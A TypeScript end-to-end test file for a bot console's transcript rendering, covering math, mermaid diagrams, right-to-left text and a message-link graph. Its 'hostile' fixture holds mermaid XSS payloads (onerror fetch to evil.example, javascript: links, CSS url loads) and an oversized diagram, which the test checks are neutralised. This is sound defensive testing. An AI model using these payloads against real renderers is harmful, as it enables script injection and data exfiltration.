/** Tests that a bot's text is displayed as intended: formulas, diagrams, and scripts that run from right to left. */
import { say } from "@reef/runtimes/testing/model-script";
import { startModelServer } from "@reef/runtimes/testing/model-server";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { launchBrowser, openConsole } from "./support/console-page.ts";
import { startReef } from "./support/reef-process.ts";

const patient = { timeout: 60_000 };

const formulas = String.raw`The mass is $m_0$, it costs $5 and $10, and

$$
\int_0^1 \frac{x^2}{1+x}\,dx = \ln 2 - \frac{1}{2}
$$

A wrong one: $\frac{1$ stands as it is.`;

const diagram =
  "Here it is:\n\n```mermaid\nflowchart LR\n  Alpha[The first box] --> Beta[The second box]\n```\n\nThat was it.";

const hostile = [
  "```mermaid\n%%{init: {'securityLevel': 'loose', 'themeCSS': '*{background:url(https://evil.example/a)}'}}%%\nflowchart LR\n  A[\"<img src=x onerror='parent.document.title=1;fetch(`https://evil.example/b`)'>\"] --> B\n  click A href \"javascript:alert(1)\"\n  click B call alert(1)\n```",
  `\`\`\`mermaid\nflowchart LR\n${Array.from({ length: 10_000 }, (_, i) => `  n${i} --> n${i + 1}`).join("\n")}\n\`\`\``,
  "```mermaid\nthis is no diagram at all\n```",
].join("\n\n");

const fromTheRight =
  "مرحبا: 3 رسائل جديدة.\n\nThen an English line: 3 messages.\n\n- שלום עולם: 12\n- second\n\n`code = 1;`";

describe("console: reading", () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launchBrowser();
  });
  afterAll(async () => {
    await browser.close();
  });

  test("SE4: formulas and diagrams are shown, hostile ones do nothing, and Arabic begins at the right", async () => {
    const answers: Readonly<Record<string, string>> = { formulas, diagram, hostile, "from the right": fromTheRight };
    await using model = await startModelServer({
      script: ({ lastUser }) =>
        say(answers[Object.keys(answers).find((word) => lastUser.includes(word)) ?? ""] ?? "no more"),
    });
    await using reef = await startReef({
      built: true,
      env: { REEF_MODEL_BASE_URL: `${model.url}/v1`, REEF_MODEL: "scripted", REEF_MODEL_API_KEY: "key" },
    });
    const bot = await reef.client.createBot({ name: "Ada", runtime: "loop" });
    const session = await reef.client.createSession({ botId: bot.id, title: "قائمة المهام: 3" });
    await using open = await openConsole(browser, reef, { colorScheme: "light" });
    const { page, transcript } = open;
    const asked: string[] = [];
    page.on("request", (request) => asked.push(request.url()));
    await open.goTo(session.id);

    await open.say("formulas");
    await transcript.locator("math").first().waitFor(patient);
    expect(await transcript.locator("math").count()).toBe(2);
    await transcript.getByText("it costs $5 and $10").waitFor();
    await transcript.getByText(String.raw`$\frac{1$`, { exact: true }).waitFor();
    const box = await transcript.locator("div.math math").boundingBox();
    expect(box?.height).toBeGreaterThan(25);
    expect(asked.some((url) => url.includes("diagram"))).toBe(false);
    await open.screenshot("reading-formulas-light");

    await open.say("diagram");
    const picture = transcript.locator("[data-diagram=drawn] img");
    await picture.waitFor(patient);
    expect(await picture.evaluate((image: HTMLImageElement) => image.naturalWidth > 100 && image.complete)).toBe(true);
    await open.screenshot("reading-diagram-light");
    const light = await picture.getAttribute("src");
    await page.emulateMedia({ colorScheme: "dark" });
    await expect.poll(() => picture.getAttribute("src"), patient).not.toBe(light);
    await open.screenshot("reading-diagram-dark");
    await page.emulateMedia({ colorScheme: "light" });
    await transcript.getByRole("button", { name: "Show source" }).click();
    await transcript.getByText("Alpha[The first box]").waitFor();
    await transcript.getByRole("button", { name: "Show diagram" }).click();

    const title = await page.title();
    const dialogs: string[] = [];
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await open.say("hostile");
    await transcript.getByText("This diagram couldn’t be drawn").first().waitFor(patient);
    await transcript.getByText("n9999 --> n10000").waitFor();
    expect([await page.title(), dialogs]).toEqual([title, []]);
    expect(
      asked.filter((url) => !url.startsWith(reef.url) && !url.startsWith("data:") && !url.startsWith("blob:")),
    ).toEqual([]);
    expect(await transcript.locator("svg foreignObject, [data-diagram] a, script").count()).toBe(0);

    await open.say("from the right");
    await transcript.getByText("مرحبا").waitFor(patient);
    expect(await directionOf(page, "مرحبا")).toEqual({ direction: "rtl", isRight: true });
    expect(await directionOf(page, "Then an English line")).toEqual({ direction: "ltr", isRight: false });
    expect(
      await transcript
        .locator("ul")
        .last()
        .evaluate((list) => getComputedStyle(list).direction),
    ).toBe("rtl");
    expect(
      await transcript
        .locator("code")
        .last()
        .evaluate((code) => getComputedStyle(code).direction),
    ).toBe("ltr");
    await open.screenshot("reading-right-light");
    await page.emulateMedia({ colorScheme: "dark" });
    await page.setViewportSize({ width: 390, height: 800 });
    await open.screenshot("reading-right-dark-phone");
    expect(open.complaints).toEqual([]);
  });

  test("the graph of links shows whole names, own messages name the sessions, and the memory opens on facts", async () => {
    await using reef = await startReef({ built: true });
    const { client } = reef;
    const long = await client.createBot({ name: "Research coordinator for the northern region", runtime: "demo" });
    const ada = await client.createBot({ name: "Ada", runtime: "demo" });
    const planning = await client.createSession({ botId: long.id, title: "planning" });
    await client.createSession({ botId: long.id, title: "reports" });
    await client.createSession({ botId: ada.id, title: "kitchen" });
    await client.sendMessage(planning.id, { text: "send reports: the plan is ready" });
    await client.sendMessage(planning.id, { text: "send kitchen: tea, please" });
    await client.sendMessage(planning.id, { text: "remember the **deploy window** is Tuesday" });
    const lines = async () => (await client.memories(long.id, { kind: "entry" })).items.length;
    await expect.poll(lines, patient).toBeGreaterThan(0);
    await expect.poll(async () => (await client.memories(long.id, { without: "entry" })).items.length, patient).toBe(1);
    await using open = await openConsole(browser, reef, { colorScheme: "light" });
    const { page } = open;

    await page.goto(`${reef.url}/messages?view=links`);
    const nodes = page.locator("[data-node]");
    await expect.poll(() => nodes.count(), patient).toBe(2);
    const drawn = await nodes.evaluateAll((all) =>
      all.map((node) => {
        const [box, name] = [node.querySelector("rect"), node.querySelector("text")];
        const [outer, inner] = [box?.getBoundingClientRect(), name?.getBoundingClientRect()];
        const isInside = outer && inner ? inner.left >= outer.left && inner.right <= outer.right : false;
        return { name: name?.textContent, isInside };
      }),
    );
    expect(drawn.toSorted((a, b) => String(a.name).localeCompare(String(b.name)))).toEqual([
      { name: "Ada", isInside: true },
      { name: "Research coordinator for the northern region", isInside: true },
    ]);
    const graph = page.getByRole("group", { name: /^Graph of messages between bots/ });
    await graph.press("+");
    await graph.press("ArrowLeft");
    await graph.press("0");
    await page.getByRole("link", { name: /between its own sessions$/ }).waitFor();
    await open.screenshot("reading-links-light");

    await page.goto(`${reef.url}/messages`);
    await page.getByRole("button", { name: /planning\s*→.*reports/ }).waitFor(patient);

    await page.goto(`${reef.url}/s/${planning.id}`);
    await open.composer.waitFor();
    await page.keyboard.press("Control+j");
    const panel = page.getByRole("complementary", { name: "Session panel" });
    await panel.getByRole("tab", { name: "Memory" }).click();
    await panel.locator("[data-memory] strong", { hasText: "deploy window" }).waitFor();
    expect(await panel.locator("[data-memory]").count()).toBe(1);
    await open.screenshot("reading-facts-light");
    await panel.getByRole("button", { name: "Verbatim" }).click();
    await panel.getByText("tea, please").first().waitFor();
    expect(open.complaints).toEqual([]);
  });
});

/** Returns the direction of a paragraph, and whether its first letter is in its right half. */
function directionOf(page: Page, text: string): Promise<{ readonly direction: string; readonly isRight: boolean }> {
  return page
    .getByRole("log", { name: "Transcript" })
    .locator("p", { hasText: text })
    .evaluate((paragraph) => {
      const range = new Range();
      const first = paragraph.firstChild;
      if (first) {
        range.setStart(first, 0);
        range.setEnd(first, 1);
      }
      const [letter, whole] = [range.getBoundingClientRect(), paragraph.getBoundingClientRect()];
      return {
        direction: getComputedStyle(paragraph).direction,
        isRight: letter.left > whole.left + whole.width / 2,
      };
    });
}
